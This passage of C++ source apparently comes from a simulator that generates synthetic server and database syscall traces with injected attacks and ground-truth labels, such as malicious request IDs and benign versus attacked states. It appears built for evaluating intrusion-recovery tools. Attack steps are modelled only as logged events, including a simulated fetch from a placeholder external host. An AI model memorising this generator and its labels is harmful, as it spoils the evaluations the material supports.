    for (int k = 0; k < chunks; ++k) c.chunks.push_back(filler(uniform(32, 256)));
    steps.push_back(ReadFile{"/var/www/html/index.php"});
    steps.push_back(std::move(c));
    steps.push_back(Query{{session_touch(r),
                           {Verb::insert, "files", r.id, {{"path", path}, {"owner", "c" + std::to_string(r.client)}}}}});
    steps.push_back(activity());
    client.uploads.push_back(path);
  } else if (roll < cfg_.mix.page_view + cfg_.mix.upload + cfg_.mix.db_crud) {
    steps.push_back(Query{});
    split_queries(crud_statements(r, uniform(24, 48)), uniform(2, 4));
    steps.push_back(activity());
  } else {
    steps.push_back(Query{});
    split_queries(crud_statements(r, uniform(5, 12)), 1);
    int appends = uniform(4, 10);
    for (int k = 0; k < appends; ++k) steps.push_back(activity());
    int slots = uniform(4, 9);
    for (int k = 0; k < slots; ++k) {
      std::string rec = r.id + ":" + std::to_string(k) + ":";
      rec += filler(kSlotSize - static_cast<int>(rec.size()));
      steps.push_back(OverwriteAt{kRecords, static_cast<std::int64_t>(uniform(0, kRecordSlots - 1)) * kSlotSize, rec});
    }
    if (!client.uploads.empty() && chance(0.3)) {
      std::string from = client.uploads.back();
      std::string to = from.substr(0, from.size() - 4) + "_v" + std::to_string(r.index) + ".txt";
      steps.push_back(RenameFile{from, to});
      client.uploads.back() = to;
    } else if (!client.uploads.empty() && chance(0.2)) {
      steps.push_back(RemoveFile{client.uploads.back()});
      client.uploads.pop_back();
    }
    if (chance(0.5)) {
      std::string path = "/data/uploads/c" + std::to_string(r.client) + "_" + r.id + "_note.txt";
      steps.push_back(CreateFile{path, {filler(uniform(16, 64)), filler(uniform(16, 64))}});
      client.uploads.push_back(path);
    }
    split_queries(crud_statements(r, uniform(5, 12)), 1);
    steps.push_back(activity());
  }
  return steps;
}

// ---- request lifecycle -----------------------------------------------------

void Simulator::client_loop(int client) {
  if (next_index_ >= cfg_.request_count) return;
  auto r = std::make_unique<Request>();
  r->index = next_index_++;
  r->id = pad_id(r->index);
  r->client = client;
  truth_.request_ids.push_back(r->id);
  if (attack_at_.contains(r->index) || stage_two_at_.contains(r->index)) truth_.malicious.insert(r->id);
  if (cfg_.pool_size >= 2 && chance(cfg_.multi_conn_prob)) r->conns_needed = 2;
  r->steps = build_steps(*r);
  Request* raw = r.get();
  requests_.push_back(std::move(r));
  start_request(raw);
}

void Simulator::start_request(Request* r) {
  ClientState& c = clients_[static_cast<std::size_t>(r->client)];
  int port = c.next_port;
  c.next_port = c.next_port >= 60000 ? 40000 : c.next_port + 1;
  r->client_tuple = {c.ip, port, std::string(kWebIp), 80};
  if (cfg_.server_model == ServerModel::coroutine) {
    r->tid = kWebPid + 1 + (r->client % 2);
  } else {
    r->tid = *free_threads_.begin();
    free_threads_.erase(free_threads_.begin());
  }
  // The accept happens outside any request: on the listener thread, or on the
  // event loop between coroutine slices.
  int acceptor = cfg_.server_model == ServerModel::coroutine ? r->tid : kWebPid;
  r->client_fd = alloc_fd(kWebPid);
  web({kWebPid, acceptor, "", false}, Syscall::accept, {.fd = r->client_fd, .endpoint = r->client_tuple});
  at(clock_ + gap(2'000, 10'000), [this, r] {
    open_burst(r);
    web({kWebPid, r->tid, r->id, false}, Syscall::recvfrom, {.fd = r->client_fd, .data = "GET /" + r->id + " HTTP/1.1"});
    close_burst(r, false);
    at(clock_ + gap(5'000, 20'000), [this, r] { run_step(r); });
  });
}

void Simulator::open_burst(Request* r) {
  if (cfg_.server_model == ServerModel::coroutine) {
    delimiter(*r, r->begun ? Marker::switch_in : Marker::begin);
  } else if (!r->begun) {
    delimiter(*r, Marker::begin);
  }
  r->begun = true;
}

void Simulator::close_burst(Request* r, bool last) {
  if (cfg_.server_model == ServerModel::coroutine) {
    delimiter(*r, last ? Marker::end : Marker::switch_out);
  } else if (last) {
    delimiter(*r, Marker::end);
  }
}

void Simulator::run_step(Request* r) {
  if (r->next == r->steps.size()) {
    finish(r);
    return;
  }
  Actor self{kWebPid, r->tid, r->id, false};
  Step& step = r->steps[r->next];
  auto proceed = [this, r] {
    ++r->next;
    at(clock_ + gap(5'000, 20'000), [this, r] { run_step(r); });
  };

  if (auto* q = std::get_if<Query>(&step)) {
    if (r->conns.empty() && (!waiters_.empty() || !try_acquire(r))) {
      waiters_.push_back(r);
      return;
    }
    int conn = r->conns[static_cast<std::size_t>(q->conn_slot) % r->conns.size()];
    std::string wire;
    for (const auto& s : q->statements) wire += s.text() + ";";
    if (wire.empty()) wire = "SELECT * FROM posts LIMIT 10;";
    open_burst(r);
    web(self, Syscall::sendto, {.fd = conns_[static_cast<std::size_t>(conn)].web_fd, .data = wire});
    close_burst(r, false);
    auto stmts = std::make_shared<std::vector<SimStatement>>(q->statements);
    at(clock_ + kNetDelay, [this, r, conn, stmts] { db_receive(r, conn, stmts); });
    return;
  }

  if (auto* s = std::get_if<Spawn>(&step)) {
    int child = next_pid_++;
    fds_[child] = fds_[kWebPid];
    open_burst(r);
    web(self, Syscall::fork, {.child_pid = child, .child_tid = child});
    close_burst(r, false);
    Actor proc{child, child, r->id, true};
    if (s->wait) {
      auto script = s->script;
      at(clock_ + gap(20'000, 50'000), [this, proc, script, proceed] { run_proc(proc, script, 0, proceed); });
    } else {
      auto script = s->script;
      at(clock_ + gap(20'000, 50'000), [this, proc, script] { run_proc(proc, script, 0, [] {}); });
      proceed();
    }
    return;
  }

  open_burst(r);
  std::visit(
      [&](auto& op) {
        using T = std::decay_t<decltype(op)>;
        if constexpr (std::is_same_v<T, ReadFile>) {
          do_read(self, op.path);
        } else if constexpr (std::is_same_v<T, CreateFile>) {
          do_create(self, op);
        } else if constexpr (std::is_same_v<T, AppendFile>) {
          do_append(self, op);
        } else if constexpr (std::is_same_v<T, OverwriteAt>) {
          do_overwrite(self, op);
        } else if constexpr (std::is_same_v<T, RenameFile>) {
          do_rename(self, op);
        } else if constexpr (std::is_same_v<T, RemoveFile>) {
          do_remove(self, op);
        }
      },
      step);
  close_burst(r, false);
  proceed();
}

void Simulator::finish(Request* r) {
  Actor self{kWebPid, r->tid, r->id, false};
  open_burst(r);
  web(self, Syscall::sendto, {.fd = r->client_fd, .data = "HTTP/1.1 200 OK"});
  web(self, Syscall::close, {.fd = r->client_fd});
  close_burst(r, true);
  free_fd(kWebPid, r->client_fd);
  if (cfg_.server_model == ServerModel::thread_per_request) free_threads_.insert(r->tid);
  release(r);
  int client = r->client;
  Nanos think = cfg_.think_time_ns > 0
                    ? static_cast<Nanos>(std::exponential_distribution<double>(1.0 / static_cast<double>(cfg_.think_time_ns))(rng_))
                    : 0;
  at(clock_ + 1'000 + think, [this, client] { client_loop(client); });
}

bool Simulator::try_acquire(Request* r) {
  std::vector<int> idle;
  for (std::size_t i = 0; i < conns_.size(); ++i) {
    if (!conns_[i].busy) idle.push_back(static_cast<int>(i));
  }
  if (static_cast<int>(idle.size()) < r->conns_needed) return false;
  std::shuffle(idle.begin(), idle.end(), rng_);
  for (int k = 0; k < r->conns_needed; ++k) {
    Conn& c = conns_[static_cast<std::size_t>(idle[static_cast<std::size_t>(k)])];
    if (c.busy) throw Error(ErrorCode::InvariantViolation, "pool connection handed out twice");
    c.busy = true;
    c.since = now_;
    r->conns.push_back(idle[static_cast<std::size_t>(k)]);
  }
  return true;
}

void Simulator::release(Request* r) {
  // Widened anchors overlap unless reuse waits out the skew on both sides.
  Nanos cooldown = 2 * cfg_.clock_skew_ns + 1'000;
  for (int idx : r->conns) {
    Conn& c = conns_[static_cast<std::size_t>(idx)];
    c.usage.emplace_back(c.since, clock_);
    at(clock_ + cooldown, [this, idx] {
      conns_[static_cast<std::size_t>(idx)].busy = false;
      serve_waiters();
    });
  }
  r->conns.clear();
}

void Simulator::serve_waiters() {
  while (!waiters_.empty()) {
    Request* head = waiters_.front();
    waiters_.pop_front();
    if (!try_acquire(head)) {
      waiters_.push_front(head);
      return;
    }
    at(now_ + 1, [this, head] { run_step(head); });
  }
}

void Simulator::db_receive(Request* r, int conn, std::shared_ptr<std::vector<SimStatement>> stmts) {
  const Conn& c = conns_[static_cast<std::size_t>(conn)];
  std::string wire;
  for (const auto& s : *stmts) wire += s.text() + ";";
  db(kDbWorkerTid0 + conn, Syscall::recvfrom, {.fd = c.db_fd, .data = wire.empty() ? "SELECT" : wire}, r->id);
  at(clock_ + gap(2'000, 8'000), [this, r, conn, stmts] { db_statement(r, conn, stmts, 0); });
}

void Simulator::db_statement(Request* r, int conn, std::shared_ptr<std::vector<SimStatement>> stmts, std::size_t i) {
  if (i == stmts->size()) {
    db_reply(r, conn);
    return;
  }
  const SimStatement& s = (*stmts)[i];
  int tid = kDbWorkerTid0 + conn;
  const Conn& c = conns_[static_cast<std::size_t>(conn)];
  (void)c;
  auto next = [this, r, conn, stmts, i] {
    at(clock_ + gap(2'000, 8'000), [this, r, conn, stmts, i] { db_statement(r, conn, stmts, i + 1); });
  };
  bool traced = cfg_.db_log_mode != DbLogMode::applog_with_client;
  std::string line = s.text() + "\n";
  if (!traced) {
    db_complete(r, conn, s, tick() + cfg_.clock_skew_ns);
    next();
    return;
  }
  if (line.size() > 4 && chance(cfg_.split_write_prob)) {
    auto cut = static_cast<std::size_t>(uniform(1, static_cast<int>(line.size()) - 2));
    std::string head = line.substr(0, cut);
    std::string tail = line.substr(cut);
    db(tid, Syscall::write, {.fd = kDbStatementFd, .offset = statement_log_size_, .data = head}, r->id);
    statement_log_size_ += static_cast<std::int64_t>(head.size());
    // The tail lands in a later event so other workers can interleave.
    at(clock_ + gap(500, 3'000), [this, r, conn, stmts, i, tid, tail, next] {
      Event& ev = db(tid, Syscall::write, {.fd = kDbStatementFd, .offset = statement_log_size_, .data = tail}, r->id);
      statement_log_size_ += static_cast<std::int64_t>(tail.size());
      db_complete(r, conn, (*stmts)[i], ev.ts);
      next();
    });
    return;
  }
  Event& ev = db(tid, Syscall::write, {.fd = kDbStatementFd, .offset = statement_log_size_, .data = line}, r->id);
  statement_log_size_ += static_cast<std::int64_t>(line.size());
  db_complete(r, conn, s, ev.ts);
  next();
}

void Simulator::db_complete(Request* r, int conn, const SimStatement& s, Nanos ts) {
  apply_effect(tables_, s);
  if (s.table == "posts") {
    bool present = tables_.contains("posts") && tables_.at("posts").contains(s.key);
    auto slot = post_slot_.find(s.key);
    if (present && slot == post_slot_.end()) {
      post_slot_[s.key] = post_keys_.size();
      post_keys_.push_back(s.key);
    } else if (!present && slot != post_slot_.end()) {
      std::size_t i = slot->second;
      post_slot_.erase(slot);
      if (i + 1 != post_keys_.size()) {
        post_keys_[i] = post_keys_.back();
        post_slot_[post_keys_[i]] = i;
      }
      post_keys_.pop_back();
    }
  }
  db_effects_.push_back({ts, r->id, s});
  const Conn& c = conns_[static_cast<std::size_t>(conn)];
  DBOperation op;
  op.ts = ts;
  op.statement = s.text();
  op.worker = cfg_.db_log_mode == DbLogMode::applog_with_client ? c.tuple.source().label()
                                                                : worker_label({std::string(kDbHost), kDbPid, kDbWorkerTid0 + conn});
  truth_.db_log.push_back({std::move(op), r->id});
  if (cfg_.db_log_mode != DbLogMode::syscall_statement_log) {
    app_log_.records.push_back({ts, c.tuple.source(), s.text()});
  }
}

void Simulator::db_reply(Request* r, int conn) {
  const Conn& c = conns_[static_cast<std::size_t>(conn)];
  db(kDbWorkerTid0 + conn, Syscall::sendto, {.fd = c.db_fd, .data = "OK"}, r->id);
  at(clock_ + kNetDelay, [this, r, conn] {
    open_burst(r);
    web({kWebPid, r->tid, r->id, false}, Syscall::recvfrom,
        {.fd = conns_[static_cast<std::size_t>(conn)].web_fd, .data = "OK"});
    close_burst(r, false);
    ++r->next;
    at(clock_ + gap(5'000, 20'000), [this, r] { run_step(r); });
  });
}

void Simulator::run_proc(Actor a, std::shared_ptr<ProcScript> script, std::size_t i, std::function<void()> on_exit) {
  if (i == script->size()) {
    web(a, Syscall::exit, {});
    fds_.erase(a.pid);
    on_exit();
    return;
  }
  auto continue_at = [this, a, script, i, on_exit](Nanos t) {
    at(t, [this, a, script, i, on_exit] { run_proc(a, script, i + 1, on_exit); });
  };
  std::visit(
      [&](auto& op) {
        using T = std::decay_t<decltype(op)>;
        if constexpr (std::is_same_v<T, Exec>) {
          web(a, Syscall::execve, {.path = op.path});
          continue_at(clock_ + gap(10'000, 40'000));
        } else if constexpr (std::is_same_v<T, ForkChild>) {
          int child = next_pid_++;
          fds_[child] = fds_[a.pid];
          web(a, Syscall::fork, {.child_pid = child, .child_tid = child});
          Actor kid{child, child, a.request, true};
          auto grandchild = op.child;
          if (op.wait) {
            at(clock_ + gap(10'000, 40'000), [this, kid, grandchild, continue_at] {
              run_proc(kid, grandchild, 0, [this, continue_at] { continue_at(clock_ + gap(5'000, 20'000)); });
            });
          } else {
            at(clock_ + gap(10'000, 40'000), [this, kid, grandchild] { run_proc(kid, grandchild, 0, [] {}); });
            continue_at(clock_ + gap(5'000, 20'000));
          }
        } else if constexpr (std::is_same_v<T, Fetch>) {
          int fd = alloc_fd(a.pid);
          NetworkTuple t{std::string(kWebIp), op.local_port, std::string(kExternalIp), 80};
          web(a, Syscall::socket, {.fd = fd});
          web(a, Syscall::connect, {.fd = fd, .endpoint = t});
          web(a, Syscall::sendto, {.fd = fd, .data = "GET /x HTTP/1.1\r\nHost: " + std::string(kExternalIp) + "\r\n\r\n"});
          web(a, Syscall::recvfrom, {.fd = fd, .data = op.body});
          web(a, Syscall::close, {.fd = fd});
          free_fd(a.pid, fd);
          continue_at(clock_ + gap(10'000, 40'000));
        } else if constexpr (std::is_same_v<T, CreateFile>) {
          do_create(a, op);
          continue_at(clock_ + gap(10'000, 40'000));
        } else if constexpr (std::is_same_v<T, AppendFile>) {
          do_append(a, op);
          continue_at(clock_ + gap(10'000, 40'000));
        } else if constexpr (std::is_same_v<T, OverwriteAt>) {
          do_overwrite(a, op);
          continue_at(clock_ + gap(10'000, 40'000));
        }
      },
      (*script)[i].op);
}

// ---- post-processing -------------------------------------------------------

void Simulator::finalize(Scenario& s) {
  for (const Conn& c : conns_) {
    auto usage = c.usage;
    std::sort(usage.begin(), usage.end());
    for (std::size_t i = 1; i < usage.size(); ++i) {
      if (usage[i].first <= usage[i - 1].second) {
        throw Error(ErrorCode::InvariantViolation, "pool connection " + c.tuple.label() + " shared by two requests " + std::to_string(usage[i-1].first) + "-" + std::to_string(usage[i-1].second) + " vs " + std::to_string(usage[i].first) + "-" + std::to_string(usage[i].second));
      }
    }
  }

  std::stable_sort(truth_.file_log.begin(), truth_.file_log.end(), [](const LabeledFileOp& a, const LabeledFileOp& b) {
    return std::tie(a.op.ts, a.op.source) < std::tie(b.op.ts, b.op.source);
  });
  std::stable_sort(truth_.db_log.begin(), truth_.db_log.end(),
                   [](const LabeledDbOp& a, const LabeledDbOp& b) { return a.op.ts < b.op.ts; });
  std::stable_sort(file_effects_.begin(), file_effects_.end(),
                   [](const FileEffect& a, const FileEffect& b) { return a.ts < b.ts; });
  std::stable_sort(db_effects_.begin(), db_effects_.end(),
                   [](const DbEffect& a, const DbEffect& b) { return a.ts < b.ts; });
  std::stable_sort(app_log_.records.begin(), app_log_.records.end(),
                   [](const AppLogRecord& a, const AppLogRecord& b) { return a.ts < b.ts; });

  auto tree_of = [&](const std::map<std::string, std::string>& entries) {
    FileTree t;
    t.entries = entries;
    t.classification = classes_;
    return t;
  };

  Tables benign_tables = initial_tables_;
  for (const DbEffect& e : db_effects_) {
    if (!truth_.malicious.contains(e.request)) apply_effect(benign_tables, e.statement);
  }
  std::map<std::string, std::string> benign_files = initial_files_;
  for (const FileEffect& e : file_effects_) {
    if (!truth_.malicious.contains(e.request)) apply_effect(benign_files, e);
  }
  truth_.reference_db.tables = tables_;
  truth_.benign_db.tables = benign_tables;
  truth_.reference_tree = tree_of(files_);
  truth_.benign_tree = tree_of(benign_files);

  s.initial_db.tables = initial_tables_;
  s.initial_tree = tree_of(initial_files_);
  s.baseline = make_baseline(s.initial_tree);

  Nanos end = std::max(web_.end_ts(), db_.end_ts());
  {
    Tables state = initial_tables_;
    std::size_t k = 0;
    for (Nanos t = kStart; t <= end + cfg_.db_snapshot_interval_ns; t += cfg_.db_snapshot_interval_ns) {
      for (; k < db_effects_.size() && db_effects_[k].ts <= t; ++k) apply_effect(state, db_effects_[k].statement);
      s.snapshots.push_back(snapshot_db(DBState{state}, t));
    }
  }
  {
    std::map<std::string, std::string> state = initial_files_;
    std::size_t k = 0;
    for (Nanos t = kStart; t <= end + cfg_.backup_interval_ns; t += cfg_.backup_interval_ns) {
      for (; k < file_effects_.size() && file_effects_[k].ts <= t; ++k) apply_effect(state, file_effects_[k]);
      s.backups.incremental_backup(tree_of(state), t);
    }
  }

  s.db_endpoints = {Endpoint{std::string(kDbIp), kDbPort}};
  s.web = std::move(web_);
  s.db = std::move(db_);
  if (cfg_.event_loss_prob > 0.0) {
    s.web = inject_event_loss(s.web, cfg_.event_loss_prob, cfg_.seed * 2 + 1);
    s.db = inject_event_loss(s.db, cfg_.event_loss_prob, cfg_.seed * 2 + 2);
  }
  s.app_log = std::move(app_log_);
  s.write_log = std::move(write_log_);
  s.truth = std::move(truth_);
}

Scenario Simulator::run() {
  cfg_.validate();
  int number = 0;
  for (const AttackSpec& a : cfg_.attacks) {
    attack_at_[a.at_request_index] = a;
    attack_number_[a.at_request_index] = number;
    if (a.kind == AttackKind::multi_stage) stage_two_at_[a.at_request_index + kStageGap] = number;
    ++number;
  }
  init_state();
  start_servers();
  clients_.resize(static_cast<std::size_t>(cfg_.concurrency));
  for (int k = 0; k < cfg_.concurrency; ++k) {
    clients_[static_cast<std::size_t>(k)].ip = "10.0." + std::to_string(k / 250) + "." + std::to_string(k % 250 + 1);
    at(clock_ + 1'000 + static_cast<Nanos>(k) * 1'500, [this, k] { client_loop(k); });
  }
  while (!queue_.empty()) {
    Pending p = queue_.top();
    queue_.pop();
    now_ = p.t;
    p.fn();
  }
  Scenario s;
  s.config = cfg_;
  finalize(s);
  return s;
}

}  // namespace

Scenario simulate(const ScenarioConfig& config) { return Simulator(config).run(); }

EventLog inject_event_loss(const EventLog& log, double prob, std::uint64_t seed) {
  if (!(prob >= 0.0 && prob <= 1.0)) throw Error(ErrorCode::InvalidArgument, "loss probability outside [0, 1]");
  EventLog out;
  out.diagnostics = log.diagnostics;
  std::mt19937_64 rng(seed);
  std::bernoulli_distribution drop(prob);
  for (const Event& ev : log.events) {
    if (ev.is_syscall() && drop(rng)) continue;
    out.events.push_back(ev);
  }
  return out;
}

}  // namespace rwd
